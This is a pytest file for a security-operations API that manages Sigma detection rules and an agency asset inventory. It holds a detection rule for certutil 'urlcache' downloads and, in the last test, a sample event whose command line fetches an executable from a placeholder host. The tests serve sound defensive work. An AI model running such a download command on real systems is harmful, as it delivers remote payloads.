"""SOC API: rules as data (custom, versions, enable/disable, restore) and the asset inventory."""

from __future__ import annotations

from collections.abc import Callable

from fastapi.testclient import TestClient

RULES = "/api/v1/soc/rules"
ASSETS = "/api/v1/soc/assets"
RULE_ID = "5d3c8f0e-2b1a-4c9d-8e7f-6a5b4c3d2e01"
RULE = f"""
title: Certutil downloads a file
id: {RULE_ID}
status: experimental
author: Đội SOC Đắk Lắk
level: high
tags: [attack.command-and-control, attack.t1105]
logsource: {{product: windows, category: process_creation}}
detection:
  sel:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains: 'urlcache'
  condition: sel
"""
Headers = Callable[[str], dict[str, str]]


def test_custom_rule_lifecycle_with_versions(client: TestClient, auth_headers: Headers) -> None:
    soc = auth_headers("soc")
    created = client.post(RULES, json={"yaml": RULE}, headers=soc)
    assert created.status_code == 201, created.text
    rule = created.json()
    assert rule["origin"] == "custom" and rule["version"] == 1 and rule["enabled"]
    assert rule["author"] == "Đội SOC Đắk Lắk" and rule["level"] == "high"
    assert client.post(RULES, json={"yaml": RULE}, headers=soc).status_code == 409

    edited = client.put(f"{RULES}/{RULE_ID}", headers=soc,
                        json={"yaml": RULE.replace("level: high", "level: critical")})
    assert edited.status_code == 200 and edited.json()["level"] == "critical"
    disabled = client.post(f"{RULES}/{RULE_ID}/disable", headers=soc).json()
    assert disabled["enabled"] is False and disabled["version"] == 3
    restored = client.post(f"{RULES}/{RULE_ID}/restore", json={"version": 1}, headers=soc)
    assert restored.status_code == 200
    detail = restored.json()
    assert detail["version"] == 4 and detail["level"] == "high" and detail["enabled"] is True
    assert [v["change"] for v in detail["versions"]] == [
        "created", "edited", "disabled", "restored version 1"]
    assert detail["versions"][1]["yaml_text"].count("level: critical") == 1
    assert client.post(f"{RULES}/{RULE_ID}/restore", json={"version": 9},
                       headers=soc).status_code == 404

    listed = client.get(RULES, headers=auth_headers("leader"),
                        params={"origin": "custom", "tag": "attack.t1105", "q": "certutil"})
    assert [r["rule_id"] for r in listed.json()["items"]] == [RULE_ID]
    assert client.get(RULES, headers=soc, params={"enabled": False,
                                                  "origin": "custom"}).json()["total"] == 0


def test_bad_rules_are_refused_with_the_reason(client: TestClient, auth_headers: Headers) -> None:
    soc = auth_headers("soc")
    cases = {
        "not: [valid": "not valid YAML",
        RULE.replace("condition: sel", "condition: sel and missing"): "not defined",
        RULE.replace(f"id: {RULE_ID}\n", ""): "needs an id",
        RULE.replace("endswith", "nosuchmodifier"): "pySigma",
        RULE + "\n---\n" + RULE: "exactly one",
    }
    for text, reason in cases.items():
        response = client.post(RULES, json={"yaml": text}, headers=soc)
        assert response.status_code == 400, text
        assert reason in response.json()["detail"], response.json()
    assert client.post(RULES, json={"yaml": ""}, headers=soc).status_code == 422
    custom = client.get(RULES, headers=soc, params={"origin": "custom"}).json()
    assert custom["total"] == 0  # nothing half-written


def test_who_may_manage_rules(client: TestClient, auth_headers: Headers) -> None:
    for user in ("leader", "so-nnmt", "operator"):
        response = client.post(RULES, json={"yaml": RULE}, headers=auth_headers(user))
        assert response.status_code == 403, user
    admin = auth_headers("admin")
    assert client.post(RULES, json={"yaml": RULE}, headers=admin).status_code == 201
    assert client.post(f"{RULES}/{RULE_ID}/disable",
                       headers=auth_headers("leader")).status_code == 403
    assert client.get(f"{RULES}/{RULE_ID}", headers=auth_headers("so-nnmt")).status_code == 200
    assert client.get(f"{RULES}/nope", headers=admin).status_code == 404


def test_asset_crud_and_scope(client: TestClient, auth_headers: Headers) -> None:
    soc = auth_headers("soc")
    made = client.post(ASSETS, headers=soc, json={
        "hostname": "Mail01.DakLak.gov.vn", "agency_code": "SO-NNMT", "criticality": "high"})
    assert made.status_code == 201, made.text
    asset = made.json()
    assert asset["hostname"] == "mail01.daklak.gov.vn"
    other = client.post(ASSETS, headers=soc, json={"ip": "10.8.0.0/255.255.0.0",
                                                   "agency_code": "CA-PC08"}).json()
    assert other["network"] == "10.8.0.0/16"
    officer = auth_headers("so-nnmt")
    seen = {a["id"] for a in client.get(ASSETS, headers=officer).json()["items"]}
    assert asset["id"] in seen and other["id"] not in seen
    assert client.get(f"{ASSETS}/{other['id']}", headers=officer).status_code == 403
    assert client.get(f"{ASSETS}/{other['id']}",
                      headers=auth_headers("leader")).status_code == 200
    assert client.delete(f"{ASSETS}/{asset['id']}", headers=officer).status_code == 403

    bad = {"hostname": "x", "agency_code": "NOPE"}
    assert client.post(ASSETS, headers=soc, json=bad).status_code == 400
    assert client.post(ASSETS, headers=soc, json={"agency_code": "SO-NNMT"}).status_code == 400
    assert client.post(ASSETS, headers=soc, json={"ip": "300.1.1.1",
                                                  "agency_code": "SO-NNMT"}).status_code == 400
    assert client.post(ASSETS, headers=soc, json={"hostname": "mail01.daklak.gov.vn",
                                                  "agency_code": "SO-NNMT"}).status_code == 409
    updated = client.put(f"{ASSETS}/{asset['id']}", headers=soc, json={
        "hostname": "mail01.daklak.gov.vn", "agency_code": "SO-NNMT", "criticality": "critical",
        "notes": "Máy chủ thư điện tử"})
    assert updated.status_code == 200 and updated.json()["criticality"] == "critical"
    assert client.delete(f"{ASSETS}/{asset['id']}", headers=soc).status_code == 204
    assert client.get(f"{ASSETS}/{asset['id']}", headers=soc).status_code == 404


def test_asset_csv_import_is_all_or_nothing(client: TestClient, auth_headers: Headers) -> None:
    soc = auth_headers("soc")
    before = client.get(ASSETS, headers=soc).json()["total"]  # the demo's own inventory
    good = ("hostname,ip,agency_code,criticality,notes\n"
            "web01,,SO-NNMT,high,Cổng thông tin\n"
            ",10.9.0.0/24,CA-PC08,critical,\n")
    response = client.post(f"{ASSETS}/import", headers=soc,
                           files={"file": ("assets.csv", good.encode(), "text/csv")})
    assert response.json() == {"created": 2, "updated": 0}
    again = good + "db01,,SO-NNMT,extreme,\n"
    response = client.post(f"{ASSETS}/import", headers=soc,
                           files={"file": ("assets.csv", again.encode(), "text/csv")})
    assert response.status_code == 400 and "line 4" in response.json()["detail"]
    response = client.post(f"{ASSETS}/import", headers=soc,
                           files={"file": ("a.csv", b"name,owner\nx,y\n", "text/csv")})
    assert response.status_code == 400
    # The bad file changed nothing.
    assert client.get(ASSETS, headers=soc).json()["total"] == before + 2
    response = client.post(f"{ASSETS}/import", headers=soc,
                           files={"file": ("assets.csv", good.encode(), "text/csv")})
    assert response.json() == {"created": 0, "updated": 2}
    assert client.post(f"{ASSETS}/import", headers=auth_headers("so-nnmt"),
                       files={"file": ("a.csv", good.encode(), "text/csv")}).status_code == 403


def test_bundled_rules_are_toggled_not_edited(client: TestClient, auth_headers: Headers) -> None:
    soc = auth_headers("soc")
    bundled = client.get(RULES, headers=soc, params={"origin": "bundled"}).json()
    assert bundled["total"] > 0, "the demo loads some bundled rules"
    rule = bundled["items"][0]
    response = client.put(f"{RULES}/{rule['rule_id']}", json={"yaml": RULE}, headers=soc)
    assert response.status_code == 409 and "custom rule" in response.json()["detail"]
    off = client.post(f"{RULES}/{rule['rule_id']}/disable", headers=soc).json()
    assert off["enabled"] is False and off["version"] == rule["version"] + 1
    again = client.post(f"{RULES}/{rule['rule_id']}/disable", headers=soc).json()
    assert again["version"] == off["version"]  # no change, no new version


def test_rule_changes_reach_the_running_engine_and_the_audit_log(
        client: TestClient, auth_headers: Headers, demo_ctx: object) -> None:
    from sqlalchemy import select

    from cityops.kernel.audit import AuditLog

    soc = auth_headers("soc")
    client.post(RULES, json={"yaml": RULE}, headers=soc)
    event = {"Event": {"System": {"Channel": "Microsoft-Windows-Sysmon/Operational",
                                  "EventID": 1, "Computer": "ws07"},
                       "EventData": {"Image": "C:\\Windows\\certutil.exe",
                                     "CommandLine": "certutil -urlcache -f http://x/a.exe"}}}
    hits = client.post("/api/v1/soc/events", json=[event], headers=soc).json()
    assert hits["matches"] >= 1
    client.post(f"{RULES}/{RULE_ID}/disable", headers=soc)
    listed = client.get("/api/v1/soc/detections", headers=soc, params={"rule_id": RULE_ID})
    assert listed.json()["items"][0]["count"] == 1
    client.post("/api/v1/soc/events", json=[event], headers=soc)
    listed = client.get("/api/v1/soc/detections", headers=soc, params={"rule_id": RULE_ID})
    assert listed.json()["items"][0]["count"] == 1  # disabled: it no longer matches
    with demo_ctx.db.session() as session:  # type: ignore[attr-defined]
        actions = session.execute(select(AuditLog.action, AuditLog.actor)
                                  .where(AuditLog.object_type == "soc_rules")
                                  .order_by(AuditLog.seq.desc()).limit(2)).all()
    assert [tuple(a) for a in actions] == [("update", "soc"), ("create", "soc")]
